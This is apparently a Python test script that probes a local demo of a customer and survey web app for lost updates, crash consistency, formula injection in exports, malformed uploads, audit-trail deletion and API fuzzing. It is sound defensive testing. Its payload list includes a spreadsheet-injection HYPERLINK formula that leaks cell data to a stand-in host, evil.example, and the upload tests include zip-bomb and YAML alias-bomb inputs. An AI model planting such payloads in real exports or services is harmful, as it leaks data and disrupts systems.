"""A security and reliability probe of the demo, from outside, as issue 15's first probe was.

It prepares a throw-away demo database, serves it with `manyi serve` (2 web processes and
the task worker) and then, over HTTP as a browser or an integration would:

1. races edits: pairs of clients changing different fields, and the same field, of one
   customer, one ticket's analysis and one staff member at the same instant;
2. kills every server process (SIGKILL) and a customer import in the middle of their work,
   restarts, and checks that each acknowledged change is there and no change is half-made;
3. plants spreadsheet formulas where anyone can type them (customer names, a public survey
   answer) and opens every export, counting live formula cells;
4. posts 100 bad files to the three upload pages (customers, questionnaires, analyses);
5. tries to delete the audit trail every way the database offers;
6. fuzzes the API with schemathesis (`tests/fuzz`, more examples than the suite's).

It prints one table of findings and exits 1 when any is not zero. Run it again with

    make probe                                   # SQLite
    make probe PROBE_DATABASE=postgres://postgres@127.0.0.1:5432/postgres

(on PostgreSQL it makes and drops its own database, `manyi_probe`).
"""

from __future__ import annotations

import argparse
import csv
import functools
import http.cookiejar
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
PYTHON = ROOT / ".venv" / "bin" / "python"
PASSWORD = "manyi-demo-2026"
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
FINDINGS: Counter[str] = Counter()
NOTES: list[str] = []


def note(text: str) -> None:
    NOTES.append(text)
    print(text, flush=True)


# -- a small HTTP client (the standard library's, so the probe needs nothing of ours) --------
class Http:
    def __init__(self, base: str, token: str | None = None) -> None:
        self.base, self.token = base, token
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.jar))

    def call(
        self,
        method: str,
        path: str,
        body: Any = None,
        *,
        headers: dict[str, str] | None = None,
        data: bytes | None = None,
        content_type: str | None = None,
        timeout: float = 60,
    ) -> tuple[int, dict[str, str], bytes]:
        headers = dict(headers or {})
        if self.token:
            headers["Authorization"] = f"Bearer {self.token}"
        if body is not None:
            data, content_type = json.dumps(body).encode(), "application/json"
        if content_type:
            headers["Content-Type"] = content_type
        request = urllib.request.Request(
            self.base + path, data=data, method=method, headers=headers
        )
        try:
            with self.opener.open(request, timeout=timeout) as response:
                status, got, payload = response.status, dict(response.headers), response.read()
        except urllib.error.HTTPError as error:
            status, got, payload = error.code, dict(error.headers), error.read()
        if status >= 500:
            FINDINGS["5xx answers"] += 1
            note(f"  5xx: {method} {path} -> {status} {payload[:200]!r}")
        return status, got, payload

    def json(self, method: str, path: str, body: Any = None, **kw: Any) -> tuple[int, Any, dict]:
        status, headers, payload = self.call(method, path, body, **kw)
        try:
            parsed = json.loads(payload or b"null")
        except ValueError:
            parsed = None
        return status, parsed, headers

    def csrf(self) -> str:
        return next((c.value for c in self.jar if c.name == "csrftoken"), "")

    def login(self, username: str) -> None:
        self.call("GET", "/login/")
        fields = {"username": username, "password": PASSWORD, "csrfmiddlewaretoken": self.csrf()}
        self.call(
            "POST",
            "/login/",
            data=urllib.parse.urlencode(fields).encode(),
            content_type="application/x-www-form-urlencoded",
        )
        assert any(c.name == "sessionid" for c in self.jar), f"login as {username} failed"

    def post_form(
        self, path: str, fields: dict[str, str], files: dict[str, tuple[str, bytes]]
    ) -> int:
        boundary = uuid.uuid4().hex
        parts = []
        for name, value in {**fields, "csrfmiddlewaretoken": self.csrf()}.items():
            parts.append(
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
                f"{value}\r\n".encode()
            )
        for name, (file_name, content) in files.items():
            parts.append(
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
                f'filename="{file_name}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode()
                + content
                + b"\r\n"
            )
        parts.append(f"--{boundary}--\r\n".encode())
        status, _headers, _body = self.call(
            "POST",
            path,
            data=b"".join(parts),
            content_type=f"multipart/form-data; boundary={boundary}",
            timeout=300,
        )
        return status


# -- the demo under test ---------------------------------------------------------------------
class Demo:
    def __init__(self, database: str | None, port: int, var: Path | None = None) -> None:
        self.reused = var is not None and (var / "manyi.sqlite3").exists() and not database
        self.var = var or Path(tempfile.mkdtemp(prefix="manyi-probe-"))
        self.var.mkdir(parents=True, exist_ok=True)
        self.port = port
        self.base = f"http://127.0.0.1:{port}"
        self.env = {**os.environ, "MANYI_VAR_DIR": str(self.var), "MANYI_DEBUG": "0"}
        self.env["PYTHONPATH"] = str(ROOT)  # this checkout's code, whatever is installed
        self.env.pop("DATABASE_URL", None)
        if database:
            self.env["DATABASE_URL"] = self._fresh_postgres(database)
        self.server: subprocess.Popen | None = None

    @staticmethod
    def _fresh_postgres(url: str) -> str:
        import psycopg

        with psycopg.connect(url, autocommit=True) as admin:
            admin.execute("DROP DATABASE IF EXISTS manyi_probe WITH (FORCE)")
            admin.execute("CREATE DATABASE manyi_probe")
        parts = urllib.parse.urlsplit(url)
        return urllib.parse.urlunsplit(parts._replace(path="/manyi_probe"))

    def manyi(self, *args: str, **kw: Any) -> subprocess.CompletedProcess:
        return subprocess.run(
            [str(PYTHON), "-m", "manyi.cli", *args],
            cwd=ROOT,
            env=self.env,
            check=True,
            capture_output=True,
            text=True,
            **kw,
        )

    def prepare(self) -> None:
        if self.reused:
            note(f"demo reused from {self.var}")
            return
        started = time.monotonic()
        self.manyi("migrate", "--no-input", "-v", "0")
        self.manyi("demo")
        note(f"demo prepared in {time.monotonic() - started:.0f} s ({self.var})")

    def token(self, username: str) -> str:
        return self.manyi("token", "create", username).stdout.strip().splitlines()[-1]

    def start(self) -> None:
        self.server = subprocess.Popen(
            [str(PYTHON), "-m", "manyi.cli", "serve", "--port", str(self.port), "--workers", "2"],
            cwd=ROOT,
            env=self.env,
            stdout=subprocess.DEVNULL,
            stderr=open(self.var / "server.log", "ab"),  # noqa: SIM115 (kept open for the child)
            start_new_session=True,
        )
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                urllib.request.urlopen(self.base + "/login/", timeout=2).read()
                return
            except OSError:
                time.sleep(0.3)
        raise RuntimeError("the server did not come up")

    def wait_for_writing(self, process: subprocess.Popen, limit: float) -> bool:
        """Until `process` is writing to the database (SQLite's write-ahead log grows, or
        PostgreSQL shows its INSERT), at most `limit` seconds: the moment to kill it."""
        wal = self.var / "manyi.sqlite3-wal"  # the server is dead: only `process` writes
        start = wal.stat().st_mtime_ns if wal.exists() else 0
        deadline = time.monotonic() + limit
        while time.monotonic() < deadline and process.poll() is None:
            if "DATABASE_URL" in self.env:
                import psycopg

                with psycopg.connect(self.env["DATABASE_URL"]) as watcher:
                    busy = watcher.execute(
                        "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
                        " AND state = 'active' AND query LIKE 'INSERT INTO \"customers_%%'"
                    ).fetchone()[0]
                if busy:
                    return True
            elif wal.exists() and wal.stat().st_mtime_ns != start:
                time.sleep(0.2)  # well inside its transaction
                return True
            time.sleep(0.05)
        return False

    def kill(self) -> None:
        """SIGKILL to every process of the server: no shutdown code runs."""
        if self.server is not None:
            os.killpg(self.server.pid, signal.SIGKILL)
            self.server.wait()
            self.server = None

    def stop(self) -> None:
        if self.server is not None:
            os.killpg(self.server.pid, signal.SIGTERM)
            self.server.wait(timeout=30)
            self.server = None

    def django(self) -> None:
        """This process, on the demo's database, for the checks only the database can make."""
        os.environ.update({k: v for k, v in self.env.items() if k.startswith(("MANYI", "DATA"))})
        if "DATABASE_URL" not in self.env:
            os.environ.pop("DATABASE_URL", None)
        os.environ.setdefault("DJANGO_SETTINGS_MODULE", "manyi.settings")
        sys.path.insert(0, str(ROOT))
        import django

        django.setup()


# -- 1. racing edits -------------------------------------------------------------------------
def race(*calls: Any) -> list[Any]:
    """Run the calls at the same instant, each on its own thread."""
    start = threading.Barrier(len(calls))
    results: list[Any] = [None] * len(calls)

    def run(i: int) -> None:
        start.wait(timeout=30)
        results[i] = calls[i]()

    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(calls))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    return results


def items(listing: Any) -> list[dict]:
    """The rows of a list answer (a page: {"items": [...], "count": n})."""
    if isinstance(listing, dict):
        return listing.get("items", [])
    return listing or []


def first(call: Any) -> Any:
    """The status of an HTTP answer (what `race` compares)."""
    return call()[0]


def racing_edits(base: str, tokens: list[str], pairs: int) -> list[int]:
    one, two = Http(base, tokens[0]), Http(base, tokens[1])
    _s, listing, _h = one.json("GET", f"/api/v1/customers?limit={pairs * 3 + 60}")
    ids = [row["id"] for row in items(listing)]

    def patch(client: Http, cid: int, fields: dict, etag: str | None) -> int:
        headers = {"If-Match": etag} if etag else {}
        return client.call("PATCH", f"/api/v1/customers/{cid}", fields, headers=headers)[0]

    def read(cid: int) -> tuple[dict, str]:
        _s, body, headers = one.json("GET", f"/api/v1/customers/{cid}")
        return body, headers.get("ETag", "")

    for i, cid in enumerate(ids[:pairs]):  # different fields, from the same version
        _b, etag = read(cid)
        race(
            functools.partial(patch, one, cid, {"occupation": f"甲{i}"}, etag),
            functools.partial(patch, two, cid, {"company_name": f"乙{i}"}, etag),
        )
        after, _e = read(cid)
        if (after["occupation"], after["company_name"]) != (f"甲{i}", f"乙{i}"):
            FINDINGS["lost updates"] += 1
    for i, cid in enumerate(ids[pairs : 2 * pairs]):  # the same field
        _b, etag = read(cid)
        statuses = race(
            functools.partial(patch, one, cid, {"occupation": f"丙{i}"}, etag),
            functools.partial(patch, two, cid, {"occupation": f"丁{i}"}, etag),
        )
        after, _e = read(cid)
        if sorted(statuses) != [200, 409]:
            FINDINGS["lost updates"] += 1  # both accepted: one silently overwrote the other
        elif after["occupation"] != (f"丙{i}" if statuses[0] == 200 else f"丁{i}"):
            FINDINGS["lost updates"] += 1
    for i, cid in enumerate(ids[2 * pairs : 3 * pairs]):  # different fields, no If-Match
        race(
            functools.partial(patch, one, cid, {"occupation": f"戊{i}"}, None),
            functools.partial(patch, two, cid, {"company_name": f"己{i}"}, None),
        )
        after, _e = read(cid)
        if (after["occupation"], after["company_name"]) != (f"戊{i}", f"己{i}"):
            FINDINGS["lost updates"] += 1
    tickets = []
    for status in ("investigating", "assigned", "contacted"):
        _s, rows, _h = one.json("GET", f"/api/v1/tickets?status={status}&limit=50")
        tickets += [row["id"] for row in items(rows)]
    raced_tickets = 0
    for i, tid in enumerate(tickets[:pairs]):
        _s, _b, headers = one.json("GET", f"/api/v1/tickets/{tid}")
        etag = headers.get("ETag", "")
        path = f"/api/v1/tickets/{tid}/actions/investigate"
        statuses = race(
            functools.partial(
                first,
                functools.partial(
                    one.call, "POST", path, {"cause": f"原因{i}"}, headers={"If-Match": etag}
                ),
            ),
            functools.partial(
                first,
                functools.partial(
                    two.call,
                    "POST",
                    path,
                    {"customer_demand": f"诉求{i}"},
                    headers={"If-Match": etag},
                ),
            ),
        )
        if statuses != [200, 200]:
            continue  # a step the ticket's state refuses (409 conflict): not a race
        raced_tickets += 1
        _s, after, _h = one.json("GET", f"/api/v1/tickets/{tid}")
        if (after.get("cause"), after.get("customer_demand")) != (f"原因{i}", f"诉求{i}"):
            FINDINGS["lost updates"] += 1
    _s, listing, _h = one.json("GET", "/api/v1/org/staff?limit=50")
    staff = items(listing)
    admin = Http(base, tokens[2])
    for i, person in enumerate((staff or [])[:pairs]):
        _s, _b, headers = admin.json("GET", f"/api/v1/org/staff/{person['id']}")
        etag, path = headers.get("ETag", ""), f"/api/v1/org/staff/{person['id']}"
        race(
            functools.partial(
                admin.call, "PATCH", path, {"name": f"员工{i}"}, headers={"If-Match": etag}
            ),
            functools.partial(
                Http(base, tokens[2]).call,
                "PATCH",
                path,
                {"phone": f"1390000{i:04d}"},
                headers={"If-Match": etag},
            ),
        )
        _s, after, _h = admin.json("GET", path)
        if after["name"] != f"员工{i}":
            FINDINGS["lost updates"] += 1
    note(
        f"1. raced {pairs} pairs each: customers (different fields with and without If-Match, "
        f"the same field), {raced_tickets} ticket analyses, {min(pairs, len(staff or []))} "
        "staff records"
    )
    return ids[3 * pairs :]


# -- 2. killed processes ---------------------------------------------------------------------
def killed_processes(
    demo: Demo, token: str, ids: list[int], seconds: float, import_seconds: float
) -> None:
    client = Http(demo.base, token)
    acknowledged: dict[int, int] = {}  # customer -> highest version a 200 answered with
    counter = iter(range(10**9))
    lock = threading.Lock()
    stop = threading.Event()
    targets = ids[:50]

    def writer() -> None:
        local = Http(demo.base, token)
        while not stop.is_set():
            cid = random.choice(targets)
            try:
                _s, _b, headers = local.json("GET", f"/api/v1/customers/{cid}", timeout=5)
                with lock:
                    n = next(counter)
                value = f"k{n}"
                status, body, _h = local.json(
                    "PATCH",
                    f"/api/v1/customers/{cid}",
                    {"occupation": value, "company_name": value},
                    headers={"If-Match": headers.get("ETag", "*")},
                    timeout=5,
                )
            except OSError:
                continue  # the server is gone (killed): keep trying until told to stop
            if status == 200:
                with lock:
                    acknowledged[cid] = max(acknowledged.get(cid, 0), body["version"])

    threads = [threading.Thread(target=writer) for _ in range(4)]
    for thread in threads:
        thread.start()
    rows = 6000  # about 13 s on the 2-core machine, writing in its last part
    import_file = demo.var / "probe-import.csv"
    with open(import_file, "w", encoding="utf-8", newline="") as out:
        out.write("客户编号,姓名,手机\n")
        for n in range(rows):
            out.write(f"PROBE-{n:05d},探针客户{n},139{n:08d}\n")
    importer = subprocess.Popen(
        [
            *(str(PYTHON), "-m", "manyi.cli", "import", "customers", str(import_file)),
            *("--branch", branch_code(client)),
        ],
        cwd=ROOT,
        env=demo.env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(seconds)
    demo.kill()
    writing = demo.wait_for_writing(importer, import_seconds)
    importer.send_signal(signal.SIGKILL)  # in the middle of its transaction
    importer.wait()
    time.sleep(1)
    stop.set()
    for thread in threads:
        thread.join(timeout=30)
    demo.start()
    half_made = lost = 0
    for cid in targets:
        _s, after, _h = client.json("GET", f"/api/v1/customers/{cid}")
        if after["occupation"].startswith("k") and after["occupation"] != after["company_name"]:
            half_made += 1
        if after["version"] < acknowledged.get(cid, 0):
            lost += 1
    FINDINGS["half-made changes after kill -9"] += half_made
    FINDINGS["acknowledged changes lost after kill -9"] += lost
    demo.imported_rows = rows  # checked in the database below
    note(
        f"2. killed the server (SIGKILL, all processes) after {seconds:.0f} s of 4 writers "
        f"({len(acknowledged)} customers acknowledged), and a {rows}-row customer import "
        f"{'while it wrote' if writing else 'at the time limit'}; restarted"
    )


def branch_code(client: Http) -> str:
    _s, branches, _h = client.json("GET", "/api/v1/org/branches")
    return branches[0]["code"]


# -- 3. formulas in exports ------------------------------------------------------------------
def _risky(text: str) -> bool:
    if not text or re.fullmatch(r"[+-]?\d+(\.\d+)?", text):
        return False
    return text[0] in "=+-@＝＋－＠\t\r\n"


def formula_cells_xlsx(data: bytes) -> int:
    import openpyxl

    live = 0
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
                live += archive.read(name).count(b"<f>")
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and _risky(cell.value) and not cell.quotePrefix:
                    live += 1
    return live


def formula_cells_csv(data: bytes) -> int:
    text = data.decode("utf-8-sig")
    return sum(1 for row in csv.reader(io.StringIO(text)) for field in row if _risky(field))


def exports(base: str, token: str) -> None:
    api = Http(base, token)
    _s, listing, _h = api.json("GET", "/api/v1/customers?limit=20")
    for text, row in zip(DANGEROUS, items(listing), strict=False):
        api.call("PATCH", f"/api/v1/customers/{row['id']}", {"name": text})
    planted = 0
    _s, questionnaires, _h = api.json("GET", "/api/v1/surveys/questionnaires")
    for questionnaire in questionnaires or []:
        code = questionnaire["code"]
        for text in DANGEROUS:
            status, link, _h = api.json("POST", f"/api/v1/surveys/questionnaires/{code}/links", {})
            if status != 201:
                break
            token = link["token"]
            _s, form, _h = Http(base).json("GET", f"/api/v1/surveys/s/{token}")
            answers = _fill(form or {}, text)
            status, _b, _h = Http(base).json(
                "POST",
                f"/api/v1/surveys/s/{token}/responses",
                {"answers": answers, "submission_key": uuid.uuid4().hex},
            )
            planted += status in (200, 201)
    browser = Http(base)
    browser.login("manager")
    files = {"customers/export.xlsx": browser.call("GET", "/customers/export.xlsx")[2]}
    for questionnaire in questionnaires or []:
        code = questionnaire["code"]
        for suffix in ("xlsx", "csv", "xlsx?labels=1", "csv?labels=1"):
            path = f"/api/v1/surveys/questionnaires/{code}/responses.{suffix}"
            files[path] = api.call("GET", path)[2]
    for path, data in files.items():
        live = formula_cells_csv(data) if ".csv" in path else formula_cells_xlsx(data)
        FINDINGS["live formula cells in exports"] += live
    note(
        f"3. planted {len(DANGEROUS)} formulas in customer names and {planted} public survey "
        f"answers; opened {len(files)} exports"
    )


def _fill(form: dict, text: str) -> dict[str, Any]:
    """Answer every question: the free-text ones with the planted text."""
    answers: dict[str, Any] = {}
    for question in (form.get("definition") or {}).get("questions", []):
        kind, name = question.get("kind", ""), question.get("name", "")
        choices = question.get("choices") or []
        if kind in ("text",):
            answers[name] = text
        elif kind == "select_one" and choices:
            answers[name] = choices[-1].get("name")
        elif kind == "select_multiple" and choices:
            answers[name] = [choices[0].get("name")]
        elif kind in ("integer", "decimal", "range"):
            answers[name] = question.get("start", 5) if kind == "range" else 5
    return answers


# -- 4. bad files ----------------------------------------------------------------------------
def bad_files() -> list[tuple[str, bytes]]:
    rng = random.Random(15)
    files: list[tuple[str, bytes]] = [
        ("empty.csv", b""),
        ("one-byte.xlsx", b"P"),
        ("bom-only.csv", "\ufeff".encode()),
        ("random-1k.xlsx", rng.randbytes(1024)),
        ("random-1m.csv", rng.randbytes(1 << 20)),
        ("random.xls", rng.randbytes(4096)),
        ("nul.csv", b"\xe5\xa7\x93\xe5\x90\x8d,\xe6\x89\x8b\xe6\x9c\xba\n\x00\x00,\x00\n"),
        ("gbk.csv", "姓名,手机\n张三,13800138000\n".encode("gbk")),
        ("utf16.csv", "姓名,手机\n张三,13800138000\n".encode("utf-16")),
        ("headers-only.csv", "客户编号,姓名,手机\n".encode()),
        ("long-field.csv", ("姓名,手机\n" + "长" * 200_000 + ",13800138000\n").encode()),
        ("many-columns.csv", (",".join(f"c{i}" for i in range(20_000)) + "\n1\n").encode()),
        ("unbalanced.csv", '姓名,手机\n"张三,13800138000\n'.encode()),
        ("html.xlsx", b"<html><body>not a workbook</body></html>"),
        ("zip-garbage.xlsx", _zip({"[Content_Types].xml": b"<x", "xl/workbook.xml": b"\x00"})),
        ("zip-bomb.xlsx", _zip({"xl/worksheets/sheet1.xml": b"0" * 50_000_000})),
        ("yaml-as-csv.csv", b"a: &a [1]\nb: *a\n"),
        ("pdf.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
    ]
    for name, rows in {
        "empty-sheet.xlsx": [],
        "formulas.xlsx": [["姓名", "手机"], ["=1+1", "=A1*2"], ["@SUM(A1)", "+1"]],
        "huge-numbers.xlsx": [["姓名", "手机", "年龄"], ["张三", 10**30, -(10**30)]],
        "dates-as-text.xlsx": [["姓名", "出生日期"], ["张三", "0001-01-01"], ["李四", "9999"]],
    }.items():
        files.append((name, _workbook({"Sheet": rows})))
    xlsforms = {
        "no-survey-sheet.xlsx": {"choices": [["list_name", "name", "label"]]},
        "empty-survey.xlsx": {"survey": [["type", "name", "label"]]},
        "calc-loop.xlsx": {
            "survey": [
                ["type", "name", "label", "calculation"],
                ["calculate", "a", "", "${b} + 1"],
                ["calculate", "b", "", "${a} + 1"],
            ]
        },
        "deep-relevant.xlsx": {
            "survey": [
                ["type", "name", "label", "relevant"],
                ["text", "q", "问题", "(" * 5000 + "1" + ")" * 5000],
            ]
        },
        "duplicate-names.xlsx": {
            "survey": [["type", "name", "label"], ["text", "q", "一"], ["text", "q", "二"]]
        },
        "unknown-type.xlsx": {"survey": [["type", "name", "label"], ["nonsense", "q", "一"]]},
        "missing-choices.xlsx": {
            "survey": [["type", "name", "label"], ["select_one colours", "q", "一"]]
        },
        "unmatched-group.xlsx": {
            "survey": [["type", "name", "label"], ["begin_group", "g", "组"], ["text", "q", "一"]]
        },
        "bad-reference.xlsx": {
            "survey": [
                ["type", "name", "label", "relevant"],
                ["text", "q", "一", "${nobody} = 1"],
            ]
        },
        "formula-label.xlsx": {
            "survey": [["type", "name", "label"], ["text", "q", '=HYPERLINK("x","y")']]
        },
    }
    for name, sheets in xlsforms.items():
        files.append((name, _workbook(sheets)))
    while len(files) < 100:  # random damage to a good workbook, byte by byte
        good = bytearray(_workbook({"Sheet": [["姓名", "手机"], ["张三", "13800138000"]]}))
        for _ in range(rng.randint(1, 40)):
            good[rng.randrange(len(good))] = rng.randrange(256)
        files.append((f"damaged-{len(files)}.xlsx", bytes(good)))
    return files


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _workbook(sheets: dict[str, list[list[Any]]]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


MODELS = [
    "a: &a [1, 2]\nb: [*a, *a]\n",
    "blocks: " + "[" * 100 + "]" * 100 + "\n",
    "x" * 2_000_000,
    "blocks: {\n  unclosed",
    "- just\n- a list\n",
]


def uploads(base: str) -> None:
    browser = Http(base)
    browser.login("manager")
    code = branch_code(browser)
    statuses: Counter[int] = Counter()
    files = bad_files()
    for n, (name, content) in enumerate(files):
        customers = {"branch": "", "confirm": "on"}
        statuses[browser.post_form("/customers/import/", customers, {"file": (name, content)})] += 1
        statuses[browser.post_form("/surveys/", {}, {"file": (name, content)})] += 1
        fields = {"name": f"probe {n}", "model_yaml": MODELS[n % len(MODELS)], "branch": ""}
        statuses[browser.post_form("/insight/new/", fields, {"file": (name, content)})] += 1
    note(
        f"4. posted {len(files)} bad files to 3 upload pages ({sum(statuses.values())} posts; "
        f"answers {dict(sorted(statuses.items()))}); branch {code}"
    )


# -- 5. the audit trail ----------------------------------------------------------------------
def audit_trail(demo: Demo) -> None:
    demo.django()
    from django.db import connection, transaction

    from manyi.customers.models import Customer
    from manyi.org.models import AuditEntry

    before = AuditEntry.objects.count()
    attempts = {
        "queryset delete": lambda: AuditEntry.objects.filter(pk__gt=0).delete(),
        "model delete": lambda: AuditEntry.objects.first().delete(),
        "raw DELETE": lambda: connection.cursor().execute("DELETE FROM org_auditentry"),
        "raw UPDATE": lambda: connection.cursor().execute("UPDATE org_auditentry SET action = 'x'"),
    }
    if connection.vendor == "postgresql":
        attempts["TRUNCATE"] = lambda: connection.cursor().execute("TRUNCATE org_auditentry")
    for name, attempt in attempts.items():
        try:
            with transaction.atomic():
                attempt()
        except Exception as refused:  # a refusal is the expected outcome
            note(f"   audit {name}: refused ({type(refused).__name__})")
        else:
            FINDINGS["audit rows deletable"] += 1
            note(f"   audit {name}: ACCEPTED")
    if AuditEntry.objects.count() != before:
        FINDINGS["audit rows deletable"] += 1
    imported = Customer.objects.filter(external_key__startswith="PROBE-").count()
    if imported not in (0, getattr(demo, "imported_rows", 0)):
        FINDINGS["half-made changes after kill -9"] += 1
    note(
        f"5. {len(attempts)} ways to remove the audit trail tried on {connection.vendor}; "
        f"the killed import left {imported} of its rows (all or none is right)"
    )


# -- 6. fuzzing ------------------------------------------------------------------------------
def fuzz(demo: Demo, examples: int) -> None:
    counts = demo.var / "fuzz-counts.txt"
    env = {**demo.env, "MANYI_FUZZ_EXAMPLES": str(examples), "MANYI_FUZZ_COUNT_FILE": str(counts)}
    env["MANYI_VAR_DIR"] = str(demo.var / "fuzz")
    if "DATABASE_URL" in env:  # the fuzz tests make their own test database beside it
        env["DATABASE_URL"] = env["DATABASE_URL"].rsplit("/", 1)[0] + "/postgres"
    run = subprocess.run(
        [str(ROOT / ".venv/bin/pytest"), "tests/fuzz", "-q", "-p", "no:cacheprovider"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
    )
    tail = run.stdout.strip().splitlines()[-1] if run.stdout.strip() else run.stderr[-300:]
    requests = sum(int(line) for line in counts.read_text().split()) if counts.exists() else 0
    failed = re.search(r"(\d+) failed", tail)
    FINDINGS["fuzzing failures"] += int(failed.group(1)) if failed else (run.returncode != 0)
    note(
        f"6. schemathesis, {examples} examples per operation and role: {requests} requests; {tail}"
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--database", default=os.environ.get("PROBE_DATABASE") or None)
    parser.add_argument("--port", type=int, default=8765)
    parser.add_argument("--pairs", type=int, default=20)
    parser.add_argument("--kill-after", type=float, default=4.0)
    parser.add_argument(
        "--kill-import-after", type=float, default=30.0, help="at the latest (seconds)"
    )
    parser.add_argument("--fuzz-examples", type=int, default=50)
    parser.add_argument("--skip-fuzz", action="store_true")
    parser.add_argument(
        "--var", type=Path, help="keep the demo here (and reuse a copy made earlier: SQLite)"
    )
    options = parser.parse_args()
    started = time.monotonic()
    demo = Demo(options.database, options.port, options.var)
    demo.prepare()
    tokens = [demo.token("manager"), demo.token("admin"), demo.token("admin")]
    demo.start()
    try:
        rest = racing_edits(demo.base, tokens, options.pairs)
        killed_processes(demo, tokens[0], rest, options.kill_after, options.kill_import_after)
        exports(demo.base, tokens[0])
        uploads(demo.base)
    finally:
        demo.stop()
    audit_trail(demo)
    if not options.skip_fuzz:
        fuzz(demo, options.fuzz_examples)
    engine = "PostgreSQL" if options.database else "SQLite"
    print(f"\n| finding ({engine}, {time.monotonic() - started:.0f} s) | count |\n|---|---|")
    for name in (
        "5xx answers",
        "lost updates",
        "half-made changes after kill -9",
        "acknowledged changes lost after kill -9",
        "live formula cells in exports",
        "audit rows deletable",
        "fuzzing failures",
    ):
        print(f"| {name} | {FINDINGS[name]} |")
    return 1 if any(FINDINGS.values()) else 0


if __name__ == "__main__":
    sys.exit(main())
